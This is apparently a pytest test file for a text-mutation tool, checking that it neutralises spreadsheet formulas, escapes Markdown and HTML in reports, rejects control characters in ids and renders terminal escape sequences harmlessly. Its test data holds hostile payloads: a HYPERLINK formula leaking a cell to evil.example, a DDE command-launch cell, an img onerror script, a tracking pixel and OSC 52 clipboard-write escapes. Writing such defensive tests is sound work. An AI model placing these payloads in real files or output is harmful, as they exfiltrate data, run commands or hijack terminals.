"""Injection: spreadsheet formulas, Markdown structure, terminal escape sequences."""

from __future__ import annotations

import csv
import json
import re

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from mutato.errors import SuiteError
from mutato.io_safety.csv_safety import neutralise, restore
from mutato.io_safety.terminal import shown
from mutato.suite.loading import load_suite

#: Cells a spreadsheet would evaluate, as claims of a suite.
FORMULAS = ['=HYPERLINK("http://evil.example/?leak="&A1,"open")', "+1+1", "-2+3",
            "@SUM(A1:A9)", "'=already quoted", "-cmd|' /C calc'!A0"]


def formula_suite(tmp_path):
    path = tmp_path / "formulas.jsonl"
    lines = [json.dumps({"id": f"f{i}", "claim": text,
                         "passages": ["The Team plan costs €12 per user per month."]})
             for i, text in enumerate(FORMULAS)]
    path.write_text("\n".join(lines) + "\n", encoding="utf-8")
    return path


def test_formula_cells_in_claims_csv_are_neutralised_and_restore_exactly(tmp_path, cli):
    suite = formula_suite(tmp_path)
    code, _, err = cli("run", suite, "-c", "lexical", "--no-mutants", "--no-gate",
                       "--out", tmp_path / "out", "--no-progress")
    assert (code, err) == (0, "")
    with (tmp_path / "out" / "formulas" / "lexical" / "claims.csv").open(
            encoding="utf-8", newline="") as handle:
        texts = {row["item_id"]: row["text"] for row in csv.DictReader(handle)}
    for i, text in enumerate(FORMULAS):
        assert texts[f"f{i}"] == "'" + text
        assert restore(texts[f"f{i}"]) == text


@pytest.mark.parametrize(("cell", "safe"), [("\tx", "'\tx"), ("\rx", "'\rx"), ("=1", "'=1"),
                                            ("'=1", "''=1"), ("ok", "ok"), ("", "")])
def test_tab_and_cr_first_cells_are_neutralised_too(cell, safe):
    assert (neutralise(cell), restore(safe)) == (safe, cell)


@settings(max_examples=200, deadline=None)
@given(st.text())
def test_neutralise_then_restore_is_the_identity(text):
    safe = neutralise(text)
    assert not safe.lstrip("'") or safe.startswith("'") or not safe.startswith(
        ("=", "+", "-", "@", "\t", "\r"))
    assert restore(safe) == text


def test_report_md_escapes_claim_text(tmp_path, cli):
    path = tmp_path / "md.jsonl"
    claim = ("x | y ![pixel](http://tracker.example/p.png) <img src=x onerror=alert(1)> "
             "[link](http://evil.example)\n# Injected heading")
    path.write_text(json.dumps({"id": "m1", "claim": claim,
                                "passages": ["Something unrelated entirely."]}) + "\n")
    code, _, _ = cli("run", path, "-c", "lexical", "--no-mutants", "--no-gate",
                     "--out", tmp_path / "out", "--no-progress")
    assert code == 0
    report = (tmp_path / "out" / "md" / "lexical" / "report.md").read_text(encoding="utf-8")
    assert "![pixel](" not in report and "[link](" not in report
    assert re.search(r"(?<!\\)<img", report) is None
    assert "\n# Injected" not in report
    row = next(line for line in report.splitlines() if "tracker.example" in line)
    assert ("x \\| y \\!\\[pixel\\](http://tracker.example/p.png) \\<img src=x "
            "onerror=alert(1)\\> \\[link\\](http://evil.example) \\# Injected heading") in row
    assert len(re.findall(r"(?<!\\)\|", row)) == 6  # the table's 5 cells, none added


@pytest.mark.parametrize(("claim_id", "code"), [
    ("a\nb", "000A"), ("a\rb", "000D"), ("a\x1b[2Jb", "001B"), ("a\u202eb", "202E"),
    ("a\u2028b", "2028"), ("a\x00b", "0000"), ("a\u200bb", "200B")])
def test_control_characters_in_ids_are_refused_with_file_line_and_field(tmp_path, claim_id,
                                                                          code):
    path = tmp_path / "ids.jsonl"
    path.write_text('{"id": "ok", "claim": "A.", "passages": ["A."]}\n'
                    + json.dumps({"id": claim_id, "claim": "B.", "passages": ["B."]}) + "\n")
    with pytest.raises(SuiteError) as info:
        load_suite(path)
    assert str(info.value) == (f"{path}:2: field 'id': id {claim_id!r} holds the control "
                               f"character U+{code}; ids must be printable text")


def test_a_passage_id_with_a_newline_is_refused(tmp_path):
    path = tmp_path / "suite.yaml"
    path.write_text('passages:\n  "p\\nq": A is 1.\nclaims:\n  - claim: A is 1.\n')
    with pytest.raises(SuiteError, match="field 'passages': id 'p\\\\nq' holds the control "
                                         "character U\\+000A"):
        load_suite(path)


#: Escape sequences that act on a terminal: clear screen, OSC 52 clipboard write, window
#: title, bell, right-to-left override, next-line, line separator.
ESCAPES = ["\x1b[2J", "\x1b]52;c;ZXZpbA==\x07", "\x1b]0;owned\x07", "\x07", "\u202e",
           "\u0085", "\u2028", "\x9b31m"]


@pytest.mark.parametrize("escape", ESCAPES)
def test_terminal_output_shows_escapes_instead_of_obeying_them(escape):
    out = shown(f"claim {escape} end")
    assert out.isprintable() and out.startswith("claim \\") and out.endswith(" end")


def test_show_prints_suite_text_with_control_characters_escaped(tmp_path, cli):
    path = tmp_path / "esc.jsonl"
    text = "The Team plan costs €12 per user per month.\x1b]52;c;ZXZpbA==\x07\x1b[2J"
    path.write_text(json.dumps({"id": "e1", "claim": text, "passages": [
        "The Team plan costs €12 per user per month."]}) + "\n")
    out_root = tmp_path / "out"
    assert cli("run", path, "-c", "lexical", "-m", "number_swap", "--no-gate",
               "--out", out_root, "--no-progress")[0] == 0
    mutant = json.loads((out_root / "esc" / "lexical" / "mutants.jsonl").read_text()
                        .splitlines()[0])["id"]
    code, out, _ = cli("show", mutant, "--root", out_root)
    assert code == 0
    assert "\x1b" not in out and "\x07" not in out
    assert "\\x1b]52;c;ZXZpbA==\\x07\\x1b[2J" in out


def test_an_error_naming_a_hostile_path_is_printed_escaped(tmp_path, cli):
    code, _, err = cli("run", tmp_path / "\x1b[2Jsuite.yaml", "-c", "lexical")
    assert code == 2
    assert "\x1b" not in err and "\\x1b[2Jsuite.yaml" in err


def test_the_review_screen_shows_markup_and_escapes_as_text(tmp_path):
    """Rich markup and escape sequences in a suite reach the review app's widgets as plain
    text: ``[link=…]`` is not a link, ``ESC ]52`` does not write the clipboard."""
    import asyncio

    from textual.widgets import Static

    from mutato.mutation.mutants import generate_mutants
    from mutato.review.app import ReviewApp
    from mutato.review.session import Session

    hostile = "The [link=https://evil.example]Team[/link] plan \x1b]52;c;ZXZpbA==\x07 costs €12."
    path = tmp_path / "s.jsonl"
    path.write_text(json.dumps({"id": "c[red]1[/red]", "claim": hostile, "question": "[bold]why[/bold]",
                                "passages": [hostile + " It does not include SSO."]}) + "\n",
                    encoding="utf-8")
    suite = load_suite(path)
    mutants = [m for m in generate_mutants(suite) if m.original == hostile]
    assert mutants
    session = Session.open(suite=suite, mutants=mutants, labels_path=tmp_path / "l.jsonl",
                           reviewer="ana")
    seen: dict[str, str] = {}

    async def run() -> None:
        app = ReviewApp(session)
        async with app.run_test():
            for name in ("progress", "question", "original", "mutant", "evidence"):
                content = app.query_one(f"#{name}", Static).content
                assert not isinstance(content, str), f"#{name} would be parsed as markup"
                seen[name] = str(content)

    asyncio.run(run())
    assert "[bold]why[/bold]" in seen["question"] and "c[red]1[/red]:" in seen["progress"]
    for name in ("original", "mutant", "evidence"):
        assert "[link=https://evil.example]Team[/link]" in seen[name]
        assert "\x1b" not in seen[name] and "\x07" not in seen[name]
        assert re.search(r"␛\]\d+;c;ZXZpbA==␇", seen[name])  # number_swap may edit the 52
